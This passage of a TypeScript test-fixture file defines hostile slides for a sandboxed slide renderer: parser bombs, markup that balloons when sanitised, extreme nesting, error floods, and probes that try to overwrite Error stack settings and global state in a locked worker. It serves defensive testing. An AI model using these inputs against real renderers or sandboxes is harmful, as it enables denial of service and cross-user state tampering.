        'section.slide { animation: var(--go) }',
      ].join('\n'),
    },
    expect: { renders: true, keeps: ['title', 'still'] },
  },
]

/* ------------------------------------------------------------------------------------------------
 * Markup too large or too costly, and state a slide leaves for the next one in a reused worker
 * (breaks 1 and 3): what each shows where it renders. Their code names no host.
 */

/** What must come of a slide of `OVERSIZED` or `LEFTOVERS` where it shows (its thumbnail, its stage). */
export type BoundsExpectation =
  /** It renders; its text matches, when given. */
  | { state: 'rendered'; text?: RegExp }
  /**
   * It shows its own error (with the content rendering under it): the error's text matches, and its place
   * (`slide.tsx:line:column`) when given. With `orRendered`, its errors may come after its answer (they are
   * thrown from work it left running), so it may show as rendered instead; either way the rest renders.
   */
  | { state: 'failed'; error: RegExp; at?: RegExp; orRendered?: boolean }

export interface BoundsHostileSlide extends HostileSlideBase {
  expect: BoundsExpectation
  /**
   * A slide rendered after this one in the same locked worker, and what it
   * must show: the hostile one must not have changed it.
   */
  next?: { tsx: string; expect: BoundsExpectation }
}

/* ------------------------------------------------------------------ oversized */

const OVERSIZED_CLASS = 'oversized: markup too large or too costly, before or after sanitising'

/**
 * Slides whose markup is too large, or grows too large (sanitised, or
 * written out for a picture), or would cost the renderer frame's one
 * thread too much to parse. Each shows its own error (or, under every
 * limit, renders), and the rest of the deck renders.
 */
export const OVERSIZED: BoundsHostileSlide[] = [
  {
    name: 'many small elements, just under the limit (they gain no namespace each in the picture)',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() { return <>{Array.from({ length: 140000 }, (_, i) => <b key={i} />)}</> }\n',
    expect: { state: 'rendered' },
  },
  {
    name: 'many small elements, over the limit',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() { return <>{Array.from({ length: 150000 }, (_, i) => <b key={i} />)}</> }\n',
    expect: { state: 'failed', error: /markup is 1,050,000 characters, over the 1,000,000 a slide may have/ },
  },
  {
    name: 'one huge text node',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() { return <p>{"x".repeat(1_200_000)}</p> }\n',
    expect: { state: 'failed', error: /markup is 1,200,007 characters, over the 1,000,000 a slide may have/ },
  },
  {
    name: 'text that grows six times when sanitised (U+00A0 written as &nbsp;)',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() { return <p>{"\\u00a0".repeat(900_000)}</p> }\n',
    expect: { state: 'failed', error: /markup grows to 5,400,007 characters once sanitised, over the 1,000,000/ },
  },
  {
    name: 'an attribute that grows five times when escaped',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() { return <p title={"&".repeat(300_000)}>x</p> }\n',
    expect: { state: 'failed', error: /markup is 1,500,017 characters, over the 1,000,000/ },
  },
  {
    name: 'an attribute that grows when sanitised (U+00A0 inside it; the sanitiser trims them at its ends)',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() { return <p title={"a" + "\\u00a0".repeat(400_000) + "a"}>x</p> }\n',
    expect: { state: 'failed', error: /markup grows to [\d,]+ characters once sanitised, over the 1,000,000/ },
  },
  {
    name: 'inline styles that grow when normalised (a refused url() splits the shorthand)',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() {\n  return <>{Array.from({ length: 15000 }, (_, i) => <i key={i} style={{ background: "red url(http://a.invalid/x.png)" }} />)}</>\n}\n',
    expect: { state: 'failed', error: /markup grows to [\d,]+ characters once sanitised, over the 1,000,000/ },
  },
  {
    name: 'small markup whose picture is large (each top-level svg declares its namespace)',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() { return <>{Array.from({ length: 80000 }, (_, i) => <svg key={i} />)}</> }\n',
    expect: { state: 'failed', error: /markup grows to 3,280,000 characters as the picture of the slide, over the 1,000,000/ },
  },
  {
    name: 'deep nesting (a parser takes seconds per level past its own depth)',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() {\n  let e = <b />;\n  for (let i = 0; i < 120000; i++) e = <i>{e}</i>;\n  return e;\n}\n',
    expect: { state: 'failed', error: /markup nests elements more than 512 deep, the most a slide may have/ },
  },
  {
    name: 'deep nesting written as HTML elements that look self-closed',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() { return <div dangerouslySetInnerHTML={{ __html: "<div/>".repeat(20000) }} /> }\n',
    expect: { state: 'failed', error: /markup nests elements more than 512 deep/ },
  },
  {
    name: 'an error with a huge message',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() {\n  throw new Error("x".repeat(50_000_000));\n}\n',
    expect: { state: 'failed', error: /^Component error x{2000}(?!x)/ },
  },
  {
    name: 'a thrown value whose text is huge',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() {\n  throw { toString: () => "y".repeat(30_000_000) };\n}\n',
    expect: { state: 'failed', error: /^Component error The component threw y{1980}(?!y)/ },
  },
  {
    name: 'a flood of uncaught errors from the worker after its render',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() {\n  const flood = (): void => { queueMicrotask(flood); throw new Error("z".repeat(100_000)); };\n  queueMicrotask(flood);\n  return <p id="flood">flooding</p>;\n}\n',
    expect: { state: 'failed', error: /z{100}/, orRendered: true },
  },
  {
    name: 'a parser bomb: formatting elements left open across blocks, which a parser copies into each (minutes of its time)',
    class: OVERSIZED_CLASS,
    tsx: 'const bs = Array.from({ length: 500 }, (_, k) => \'<b id="b\' + k + \'">\').join("");\nexport default function S() {\n  return <div dangerouslySetInnerHTML={{ __html: "<div>" + bs + "</div>" + "<p>x</p>".repeat(3000) }} />;\n}\n',
    expect: {
      state: 'failed',
      error: /leaves formatting elements \(b, i, a, …\) open across blocks, which a browser would copy more than 10,000 times/,
    },
  },
  {
    name: 'the same bomb written with React alone (blocks inside a p, inside formatting elements)',
    class: OVERSIZED_CLASS,
    tsx: 'export default function S() {\n  let inner = <>{Array.from({ length: 3000 }, (_, i) => <div key={i}>x</div>)}</>;\n  for (let k = 0; k < 500; k++) inner = <b id={"b" + k}>{inner}</b>;\n  return <p>{inner}</p>;\n}\n',
    expect: { state: 'failed', error: /open across blocks, which a browser would copy more than 10,000 times/ },
  },
]

/* ---------------------------------------------------- locked-worker leftovers */

const LEFTOVERS_CLASS = 'leftovers: what a locked worker keeps from one slide to the next'

/** Tries each change quietly (the slide renders, so its worker goes on to the next slide) and shows what it did. */
const TRY = `const tries: string[] = [];
function t(name: string, run: () => void) {
  try { run(); tries.push(name + ": done"); } catch { tries.push(name + ": refused"); }
}
`

/** A slide that reports what a slide sees of `Error`: its stack's first line and frames, and the values a slide could change. */
const ERROR_PROBE = `export default function Probe() {
  const stack = String(new Error("probe").stack);
  const frames = stack.split("\\n").filter((line) => line.trim().startsWith("at ")).length;
  const E = Error as any;
  const captured: any = {};
  E.captureStackTrace(captured);
  return <p id="probe">{stack.split("\\n")[0]}|{frames > 0 ? "frames" : "no frames"}|{typeof E.prepareStackTrace}|{String(E.stackTraceLimit)}|{typeof captured.stack === "string" && captured.stack.includes("at ") ? "captured" : "not captured"}|{String((globalThis as any).leftover)}</p>;
}
`
const ERROR_PROBE_EXPECT: BoundsExpectation = { state: 'rendered', text: /^Error: probe\|frames\|function\|10\|captured\|undefined$/ }

/**
 * Slides that change what a locked worker keeps (SES's lockdown leaves
 * `Error`'s stack settings writable with `errorTaming: 'unsafe'`, the
 * global scope's bindings, anything else reachable), then the slide
 * rendered next in the same worker, whose output must be untouched.
 */
export const LEFTOVERS: BoundsHostileSlide[] = [
  {
    name: 'Error.prepareStackTrace',
    class: LEFTOVERS_CLASS,
    // Not a function first (SES resets the formatter then), a function last: left in place, it would be the next slide's.
    tsx: `${TRY}t("not a function", () => { (Error as any).prepareStackTrace = undefined; });
t("a function", () => { (Error as any).prepareStackTrace = () => "SET-BY-A"; });
t("defined", () => { Object.defineProperty(Error, "prepareStackTrace", { value: () => "SET-BY-A" }); });
export default function A() { return <p>{tries.join("; ")}|{String(new Error("a").stack).slice(0, 8)}</p>; }
`,
    expect: { state: 'rendered', text: /^not a function: refused; a function: refused; defined: refused\|Error: a$/ },
    next: { tsx: ERROR_PROBE, expect: ERROR_PROBE_EXPECT },
  },
  {
    name: 'Error.stackTraceLimit, 0 and huge',
    class: LEFTOVERS_CLASS,
    // 0 last: left in place, the next slide's errors would have no frames (and no slide.tsx line).
    tsx: `${TRY}t("huge", () => { (Error as any).stackTraceLimit = 1e9; });
t("Infinity", () => { (Error as any).stackTraceLimit = Infinity; });
t("0", () => { (Error as any).stackTraceLimit = 0; });
export default function A() { return <p>{tries.join("; ")}</p>; }
`,
    expect: { state: 'rendered', text: /^huge: refused; Infinity: refused; 0: refused$/ },
    next: { tsx: ERROR_PROBE, expect: ERROR_PROBE_EXPECT },
  },
  {
    name: 'Error.captureStackTrace replaced',
    class: LEFTOVERS_CLASS,
    tsx: `${TRY}t("assigned", () => { (Error as any).captureStackTrace = () => {}; });
t("defined", () => { Object.defineProperty(Error, "captureStackTrace", { value: () => {} }); });
t("on a native error's constructor", () => { (TypeError as any).captureStackTrace = () => {}; });
export default function A() { return <p>{tries.join("; ")}</p>; }
`,
    expect: { state: 'rendered', text: /^assigned: refused; defined: refused; on a native error's constructor: refused$/ },
    next: { tsx: ERROR_PROBE, expect: ERROR_PROBE_EXPECT },
  },
  {
    name: 'the global scope: properties and the script-level bindings the worker loads with',
    class: LEFTOVERS_CLASS,
    tsx: `${TRY}declare let __slideRuntime: unknown;
declare let __slideModule: unknown;
t("a property", () => { (globalThis as any).leftover = "left behind"; });
t("a defined property", () => { Object.defineProperty(globalThis, "leftover", { value: "left behind" }); });
t("Reflect.set", () => { if (!Reflect.set(globalThis, "leftover", "left behind")) throw new Error("refused"); });
t("the runtime slot", () => { __slideRuntime = { React: null }; });
t("the module slot", () => { __slideModule = () => { throw new Error("SET-BY-A"); }; });
export default function A() { return <p>{tries.join("; ")}</p>; }
`,
    // The two slots are the worker's own, emptied before each use: writing them changes nothing the next slide gets.
    expect: {
      state: 'rendered',
      text: /^a property: refused; a defined property: refused; Reflect\.set: refused; the runtime slot: done; the module slot: done$/,
    },
    next: { tsx: ERROR_PROBE, expect: ERROR_PROBE_EXPECT },
  },
  {
    name: 'everything reachable: every setter tried, every object checked frozen',
    class: LEFTOVERS_CLASS,
    tsx: `const isObject = (v: unknown): v is object => (typeof v === "object" && v !== null) || typeof v === "function";
const proto = (v: unknown) => (isObject(v) ? Object.getPrototypeOf(v) : undefined);
const attempt = (f: () => unknown) => { try { return f(); } catch { return undefined; } };
// The hidden intrinsics, reached through instances (as SES's own list of them).
const roots: Array<[string, unknown]> = [
  ["globalThis", globalThis],
  ["AsyncFunction", (async function () {}).constructor],
  ["GeneratorFunction", function* () {}.constructor],
  ["AsyncGeneratorFunction", (async function* () {}).constructor],
  ["%ArrayIteratorPrototype%", proto([][Symbol.iterator]())],
  ["%MapIteratorPrototype%", proto(new Map()[Symbol.iterator]())],
  ["%SetIteratorPrototype%", proto(new Set()[Symbol.iterator]())],
  ["%StringIteratorPrototype%", proto(""[Symbol.iterator]())],
  ["%RegExpStringIteratorPrototype%", proto("a".matchAll(/a/g))],
  ["%IteratorHelperPrototype%", attempt(() => proto(([] as any).values().map((x: unknown) => x)))],
  ["%WrapForValidIteratorPrototype%", attempt(() => proto((globalThis as any).Iterator.from({ next() { return { done: true }; } })))],
  ["%AsyncFromSyncIteratorPrototype%", undefined],
  ["%ThrowTypeError%", attempt(() => Object.getOwnPropertyDescriptor(function () { "use strict"; return arguments; }(), "callee")!.get)],
  ["%TypedArray%", proto(Int8Array)],
  ["%SegmentsPrototype%", attempt(() => proto(new Intl.Segmenter().segment("a")))],
  ["%SegmentIteratorPrototype%", attempt(() => proto(new Intl.Segmenter().segment("a")[Symbol.iterator]()))],
  ["%PromisePrototype%", proto(Promise.resolve())],
  ["%TypeErrorPrototype%", proto(new TypeError("x"))],
];
const seen = new Set<unknown>();
const queue: Array<[string, unknown]> = roots.filter(([, v]) => isObject(v));
const changed: string[] = [];
const notFrozen: string[] = [];
const sentinels = [() => "SET-BY-A", 7, { set: "by A" }, "SET-BY-A"];
while (queue.length > 0) {
  const [path, value] = queue.shift()!;
  if (!isObject(value) || seen.has(value)) continue;
  seen.add(value);
  if (!Object.isFrozen(value)) notFrozen.push(path);
  queue.push([path + ".__proto__", Object.getPrototypeOf(value)]);
  for (const key of Reflect.ownKeys(value)) {
    const name = path + "." + String(key);
    const d = Object.getOwnPropertyDescriptor(value, key);
    if (d === undefined) continue;
    if ("value" in d) { queue.push([name, d.value]); continue; }
    queue.push([name + "<get>", d.get], [name + "<set>", d.set]);
    const read = () => attempt(() => Reflect.apply(d.get!, value, []));
    const before = read();
    // A getter that makes a new value each time (SES's harmless Error.prepareStackTrace of the other compartments) shares nothing.
    if (!Object.is(read(), before)) continue;
    queue.push([name, before]);
    if (d.set === undefined) continue;
    for (const sentinel of sentinels) {
      attempt(() => Reflect.apply(d.set!, value, [sentinel]));
      if (!Object.is(read(), before)) { changed.push(name); break; }
    }
  }
}
export default function Audit() {
  return <p>{seen.size > 1000 ? "walked" : "walked only " + seen.size}; changed: {changed.join(", ") || "none"}; not frozen: {notFrozen.join(", ") || "none"}</p>;
}
`,
    expect: { state: 'rendered', text: /^walked; changed: none; not frozen: none$/ },
    next: { tsx: ERROR_PROBE, expect: ERROR_PROBE_EXPECT },
  },
  {
    name: 'a throwing slide in a locked worker still shows its slide.tsx line and column',
    class: LEFTOVERS_CLASS,
    tsx: 'export default function Thrower() {\n  const n = 1;\n  throw new Error("thrown on line 3, column " + (8 + n));\n}\n',
    expect: { state: 'failed', error: /thrown on line 3, column 9/, at: /^slide\.tsx:3:9$/ },
  },
]

/** Every hostile slide of every class: what an engine-equality test runs through each engine. */
export const HOSTILE_CORPUS: readonly HostileSlideBase[] = [
  ...OVERSIZED,
  ...LEFTOVERS,
  ...CSS_AND_SVG_URLS,
  ...PATH_LOOKING_HOSTS,
  ...CLASSIC_READING,
  ...PAINT_HEAVY,
]
